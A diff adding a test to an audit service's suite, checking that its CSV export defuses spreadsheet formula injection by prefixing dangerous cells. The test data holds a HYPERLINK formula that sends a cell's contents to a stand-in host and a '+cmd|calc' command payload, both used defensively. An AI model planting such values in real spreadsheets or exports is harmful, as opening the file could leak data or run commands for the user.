@@ -247,6 +247,18 @@ describe('read side', () => {
     expect(events.every((e) => e.project_id === 'proj-b')).toBe(true);
   });
 
+  it('CSV exports neutralise cells a spreadsheet would run as a formula (an agent names its client =HYPERLINK(...))', async () => {
+    const call = callContext({ sessionId: 's-formula' });
+    call.input.client = { name: '=HYPERLINK("https://x.example/?"&A1,"open")', version: '1', user_agent: '+cmd|calc' };
+    await app.ctx.audit.recordIntent(intentRow(call, allow));
+    const res = await app.inject({ method: 'GET', url: '/v1/audit/export?format=csv&session=s-formula', headers: bearer(owner) });
+    const [header, row] = parse(res.body, { columns: false }) as string[][];
+    const cell = (name: string) => row![header!.indexOf(name)];
+    expect(cell('client_name')).toBe(`'=HYPERLINK("https://x.example/?"&A1,"open")`);
+    expect(cell('user_agent')).toBe(`'+cmd|calc`);
+    for (const c of row!) expect(c).not.toMatch(/^[=+@\t\r]/);
+  });
+
   it('CSV export parses back to the same rows; JSON Lines too', async () => {
     const res = await app.inject({ method: 'GET', url: '/v1/audit/export?format=csv&session=s-read', headers: bearer(owner) });
     expect(res.statusCode).toBe(200);
